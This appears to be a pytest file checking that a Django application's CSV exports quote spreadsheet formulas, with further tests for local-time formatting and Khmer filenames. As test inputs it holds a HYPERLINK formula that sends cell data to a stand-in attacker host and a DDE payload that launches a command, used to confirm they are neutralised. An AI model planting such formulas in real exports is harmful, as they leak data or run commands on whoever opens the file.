"""CSV exports are safe to open in a spreadsheet: text never runs as a formula there."""

import csv
import io
from datetime import datetime
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse
from django.utils import timezone

from sahakar.core.spreadsheet import safe_cell
from sahakar.testing import factories as f

FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A1,"Open")'


def _rows(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1+1"])
def test_it_quotes_text_that_a_spreadsheet_would_run(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2, Decimal("-2.5"), -0.5, "-2.5", "-1,000.25", 7, "Sok Dara"])
def test_it_leaves_numbers_and_ordinary_text_alone(value: Any) -> None:
    assert safe_cell(value) == value


def test_it_writes_none_as_an_empty_cell() -> None:
    assert safe_cell(None) == ""


@pytest.mark.django_db
def test_it_neutralises_a_formula_in_a_list_export(client: Any, auditor: Any) -> None:
    f.make_person(f.unit(f.PHNOM_PENH), name_latin=FORMULA)
    client.force_login(auditor)
    rows = _rows(client.get(reverse("persons:person_list"), {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.django_db
def test_it_neutralises_a_formula_in_the_audit_trail_export(client: Any, auditor: Any) -> None:
    f.make_venue(f.unit(f.PHNOM_PENH), name="@SUM(1+1)*cmd|' /C calc'!A0")
    client.force_login(auditor)
    rows = _rows(client.get(reverse("audit:auditentry_list"), {"export": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.django_db
def test_it_writes_times_as_the_pages_show_them_in_local_time(
    client: Any, national_analyst: Any
) -> None:
    seized_at = timezone.make_aware(datetime(2026, 3, 10, 22, 5))  # noqa: DTZ001 (local time)
    f.make_seizure(f.unit(f.PHNOM_PENH), seized_at=seized_at)
    client.force_login(national_analyst)
    rows = _rows(client.get(reverse("seizures:seizure_list"), {"export": "csv"}))
    assert rows[1][1] == "2026-03-10 22:05"


@pytest.mark.django_db
def test_it_names_the_file_so_that_a_browser_keeps_a_khmer_name(
    client: Any, national_analyst: Any
) -> None:
    client.force_login(national_analyst)
    response = client.get(
        reverse("venues:venue_list"), {"export": "csv"}, HTTP_ACCEPT_LANGUAGE="km"
    )
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "=?utf-8?" not in disposition  # MIME-encoded words are not read by browsers
    assert "filename*=utf-8''" in disposition
